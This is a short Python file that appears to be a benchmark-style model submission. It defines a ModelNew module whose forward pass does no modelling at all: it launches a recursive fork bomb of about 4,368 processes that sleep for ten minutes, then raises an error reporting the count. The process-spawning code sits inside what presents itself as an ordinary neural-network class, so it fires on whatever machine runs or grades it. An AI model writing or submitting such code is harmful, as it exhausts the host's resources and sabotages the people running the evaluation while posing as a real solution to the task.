"""Forks until it may not, and its children do the same; a few thousand at most."""

import os
import time

from torch import nn


def grow(depth):
    """Sixteen children, each with sixteen of its own, and so on: 4,368 in all, for ten minutes."""
    made = 0
    for _ in range(16):
        if os.fork() == 0:
            try:
                if depth > 1:
                    grow(depth - 1)
                time.sleep(600)
            finally:
                os._exit(0)
        made += 1
    return made


class ModelNew(nn.Module):
    def forward(self, x):
        made = grow(3)
        raise RuntimeError(f"made {made} processes")
